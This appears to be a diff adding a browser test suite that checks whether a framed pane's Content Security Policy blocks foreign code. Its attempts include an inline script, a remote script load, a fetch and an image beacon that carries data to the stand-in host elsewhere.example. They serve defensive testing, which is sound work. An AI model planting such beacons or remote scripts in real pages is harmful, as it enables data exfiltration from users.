@@ -1,0 +1,90 @@
+import type { Frame } from "playwright-core";
+import { startKit, type Kit } from "../support/browser";
+
+jest.setTimeout(120_000);
+
+let kit: Kit;
+let pane: Frame;
+beforeAll(async () => {
+  kit = await startKit();
+  const page = await kit.open();
+  const frame = await (await page.waitForSelector("#pane-frame")).contentFrame();
+  pane = frame!;
+});
+afterAll(() => kit.close());
+
+/** Each is tried in the pane as foreign code would; the browser says which directive stopped it. */
+const ATTEMPTS: [string, string, () => void][] = [
+  [
+    "an inline script",
+    "script-src-elem",
+    () => {
+      document.body.append(Object.assign(document.createElement("script"), { textContent: "1" }));
+    },
+  ],
+  [
+    "text run as code",
+    "script-src",
+    () => {
+      setTimeout("1");
+    },
+  ],
+  [
+    "a script from elsewhere",
+    "script-src-elem",
+    () => {
+      const src = "https://elsewhere.example/x.js";
+      document.body.append(Object.assign(document.createElement("script"), { src }));
+    },
+  ],
+  [
+    "an inline style",
+    "style-src-attr",
+    () => {
+      document.body.append(document.createElement("i"));
+      document.body.lastElementChild!.setAttribute("style", "color: red");
+    },
+  ],
+  [
+    "a request to elsewhere",
+    "connect-src",
+    () => {
+      fetch("https://elsewhere.example/").catch(() => undefined);
+    },
+  ],
+  [
+    "a picture that carries data away",
+    "img-src",
+    () => {
+      new Image().src = "https://elsewhere.example/?equity=1000000";
+    },
+  ],
+  [
+    "a frame",
+    "frame-src",
+    () => {
+      const src = "https://elsewhere.example/";
+      document.body.append(Object.assign(document.createElement("iframe"), { src }));
+    },
+  ],
+];
+
+describe("the pane's policy", () => {
+  it.each(ATTEMPTS)("stops %s", async (_, directive, attempt) => {
+    const stopped = pane.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          const named = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective);
+          document.addEventListener("securitypolicyviolation", named, { once: true });
+        }),
+    );
+    await pane.evaluate(attempt);
+    expect(await stopped).toBe(directive);
+  });
+
+  it("let nothing out while all this was tried", () => {
+    expect(
+      kit.outside.filter((address) => !address.startsWith("https://elsewhere.example")),
+    ).toEqual([]);
+  });
+});
